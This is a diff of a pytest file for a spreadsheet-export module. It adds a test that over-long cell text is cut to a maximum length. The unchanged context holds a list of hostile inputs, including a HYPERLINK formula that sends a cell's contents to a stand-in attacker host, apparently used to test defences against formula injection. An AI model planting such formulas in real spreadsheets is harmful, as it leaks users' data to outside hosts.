@@ -10,7 +10,7 @@ import pytest
 from openpyxl import Workbook as OpenBook
 from openpyxl import load_workbook
 
-from web.xlsx import SPOOL_BYTES, Style, Styled, Workbook
+from web.xlsx import MAX_TEXT, SPOOL_BYTES, Style, Styled, Workbook
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
@@ -65,6 +65,15 @@ def test_characters_xml_cannot_carry_are_dropped():
     book.add_sheet("表").append(["分\x0b页\x00符\x1f", "换行\n保留"])
     read = _saved(book).active
     assert [c.value for c in read[1]] == ["分页符", "换行\n保留"]
+
+
+def test_a_text_longer_than_a_cell_holds_is_cut():
+    # Excel refuses a file whose cell holds more (a unit urged for hundreds of items)
+    book = Workbook()
+    book.add_sheet("表").append(["事" * (MAX_TEXT + 10), "事" * MAX_TEXT])
+    cut, whole = _saved(book).active[1]
+    assert len(cut.value) == MAX_TEXT and cut.value.endswith("…")
+    assert whole.value == "事" * MAX_TEXT
 
 
 def test_styles_widths_merges_frozen_rows_comments_and_choices():
